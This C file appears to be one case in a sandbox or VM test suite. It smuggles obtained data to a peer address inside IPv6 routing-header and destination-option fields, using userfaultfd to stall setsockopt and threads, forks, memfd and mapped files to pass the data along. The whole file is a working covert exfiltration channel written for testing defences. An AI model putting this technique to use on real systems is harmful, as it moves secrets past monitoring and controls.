// SPDX-License-Identifier: GPL-2.0
/*
 * option.c - the data in the options of a socket, which are in the headers of
 * what it sends by itself
 *
 * usage: option syn-ack ADDRESS READY
 *	  option blocked|again|handed|passed|filed|joined ADDRESS
 *
 * syn-ack: in a routing header of a listener, port 7000, to which ADDRESS
 * connects once there is a file READY. blocked: setsockopt() copies it from
 * memory that is filled when the data is obtained; then the connection is kept
 * alive. again: the file is opened a second time if it was refused. handed: a thread
 * waits for what another process reads there, and writes twice if it has to. passed: in
 * between there is a third, whose memory we have. filed: who writes it to a file that
 * we have mapped. joined: another thread has joined a group before, and sets no more.
 */
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <semaphore.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "tests/vm/attack/giver.h"

#define SEGMENTS 30
#define PADDING 252
#define PAGE 4096

/* A segment routing header whose only stop is the peer; the others are data. */
struct route {
	unsigned char next, len, type, left, last, flags;
	unsigned short tag;
	struct in6_addr stop[SEGMENTS];
};

static int sock, from, go;
static char *page;

static void answer_with_route(const union attack_addr *peer, const char *ready)
{
	union attack_addr any = attack_addr_port("::", 7000);
	struct route route = {
		.len = 2 * SEGMENTS,
		.type = 4,
		.left = SEGMENTS - 1,
		.last = SEGMENTS - 1,
	};
	int one = 1;

	sock = attack_socket(&any, SOCK_STREAM, 0);
	setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	attack_do("bind", bind(sock, &any.any, attack_len(&any)));
	attack_do("listen", listen(sock, 1));
	attack_obtain();
	memcpy(route.stop, data.bytes, sizeof(route.stop));
	route.stop[SEGMENTS - 1] = peer->v6.sin6_addr;
	if (setsockopt(sock, IPPROTO_IPV6, IPV6_RTHDR, &route, sizeof(route)))
		attack_note("setsockopt", errno);
	close(attack_do("ready", open(ready, O_CREAT | O_WRONLY, 0644)));
	attack_poll(sock, POLLIN);
}

static void *set_option(void *unused)
{
	if (setsockopt(sock, IPPROTO_IPV6, IPV6_DSTOPTS, page, 8 + 3 * (PADDING + 4)))
		attack_note("setsockopt", errno);
	return NULL;
}

/* Destination options of an experimental kind, which receivers skip */
static void fill(unsigned char *options)
{
	options[1] = 3 * (PADDING + 4) / 8;
	for (int i = 0, at = 2; i < 3; i++, at += 2 + PADDING) {
		options[at] = 0x1e;
		options[at + 1] = PADDING;
		memcpy(options + at + 2, data.bytes + i * PADDING, PADDING);
	}
}

static void keep_alive(void)
{
	int one = 1;

	setsockopt(sock, SOL_SOCKET, SO_KEEPALIVE, &one, sizeof(one));
	setsockopt(sock, IPPROTO_TCP, TCP_KEEPIDLE, &one, sizeof(one));
	setsockopt(sock, IPPROTO_TCP, TCP_KEEPINTVL, &one, sizeof(one));
}

static int make_fault(void)
{
	int fd = attack_do("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK));
	struct uffdio_register range = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	struct uffdio_api api = { .api = UFFD_API };

	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	range.range.start = (unsigned long)page;
	range.range.len = PAGE;
	attack_do("api", ioctl(fd, UFFDIO_API, &api));
	attack_do("register", ioctl(fd, UFFDIO_REGISTER, &range));
	return fd;
}

static void obtain_again(void)
{
	int fd = open(getenv("FILE"), O_RDONLY | O_CLOEXEC);

	if (fd >= 0)
		close(fd);
	attack_obtain();
}

static void *read_given(void *unused)
{
	giver_read(from, go, &data);
	return NULL;
}

static void obtain_handed(void)
{
	pthread_t thread;

	pthread_create(&thread, NULL, read_given, NULL);
	pthread_join(thread, NULL);
}

static struct attack_data *map_shared(int fd)
{
	void *shared = mmap(NULL, sizeof(data), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	attack_do("mmap", shared == MAP_FAILED ? -1 : 0);
	return shared;
}

static void read_into_memory(int fd)
{
	struct attack_data *shared = map_shared(fd);

	close(fd);
	giver_read(from, go, shared);
}

static void read_into_file(int fd)
{
	giver_read(from, go, &data);
	attack_do("write", pwrite(fd, &data, sizeof(data), 0));
}

/* A fork is one with us until it has executed something: then it is @between. */
static void obtain_over(const char *between)
{
	int fd = attack_do("memfd_create", memfd_create("shared", 0));
	struct attack_data *shared;
	char fds[3][12];
	pid_t pid;

	attack_do("ftruncate", ftruncate(fd, sizeof(data)));
	shared = map_shared(fd);
	snprintf(fds[0], sizeof(fds[0]), "%d", fd);
	snprintf(fds[1], sizeof(fds[1]), "%d", from);
	snprintf(fds[2], sizeof(fds[2]), "%d", go);
	pid = attack_do("fork", fork());
	if (!pid) {
		execl("/proc/self/exe", "option", between, fds[0], fds[1], fds[2], NULL);
		_exit(127);
	}
	close(fd);
	close(from);
	close(go);
	attack_do("wait", waitpid(pid, NULL, 0));
	data = *shared;
}

static void obtain_passed(void)
{
	obtain_over("passed");
}

static void obtain_filed(void)
{
	obtain_over("filed");
}

static void set_while_blocked(const char *peer, void (*obtain)(void))
{
	static unsigned char options[PAGE] __attribute__((aligned(PAGE)));
	int fd = make_fault();
	struct uffdio_copy copy = {
		.dst = (unsigned long)page,
		.src = (unsigned long)options,
		.len = PAGE,
	};
	pthread_t thread;

	sock = attack_connected(peer);
	keep_alive();
	pthread_create(&thread, NULL, set_option, NULL);
	attack_poll(fd, POLLIN);
	obtain();
	fill(options);
	attack_do("copy", ioctl(fd, UFFDIO_COPY, &copy));
	pthread_join(thread, NULL);
	poll(NULL, 0, 2500);
	/* It would go on sending, and later cases count that. */
	shutdown(sock, SHUT_RDWR);
	setsockopt(sock, IPPROTO_IPV6, IPV6_DSTOPTS, NULL, 0);
}

static void *join_group(void *joined)
{
	struct ip_mreq group = { .imr_multiaddr.s_addr = htonl(0xef010203) };
	int fd = attack_do("socket", socket(AF_INET, SOCK_DGRAM, 0));

	group.imr_interface.s_addr = htonl(INADDR_LOOPBACK);
	attack_do("join", setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group)));
	sem_post(joined);
	pause();
	return NULL;
}

static void obtain_joined(const char *peer)
{
	pthread_t thread;
	sem_t joined;

	sem_init(&joined, 0, 0);
	pthread_create(&thread, NULL, join_group, &joined);
	sem_wait(&joined);
	attack_obtain();
	attack_send(attack_connected(peer));
}

int main(int argc, char **argv)
{
	union attack_addr peer;

	if (argc < 3)
		return 2;
	if (argc == 5) {
		from = atoi(argv[3]);
		go = atoi(argv[4]);
		if (attack_is(argv, 1, "passed"))
			read_into_memory(atoi(argv[2]));
		else
			read_into_file(atoi(argv[2]));
		return attack_status;
	}
	peer = attack_addr(argv[2]);
	if (attack_is(argv, 1, "syn-ack")) {
		answer_with_route(&peer, argv[3]);
	} else if (attack_is(argv, 1, "joined")) {
		obtain_joined(argv[2]);
	} else if (attack_is(argv, 1, "handed")) {
		from = giver_start(&go);
		set_while_blocked(argv[2], obtain_handed);
	} else if (attack_is(argv, 1, "passed")) {
		from = giver_start(&go);
		set_while_blocked(argv[2], obtain_passed);
	} else if (attack_is(argv, 1, "filed")) {
		from = giver_start(&go);
		set_while_blocked(argv[2], obtain_filed);
	} else {
		set_while_blocked(argv[2],
				  attack_is(argv, 1, "again") ? obtain_again : attack_obtain);
	}
	return attack_status;
}
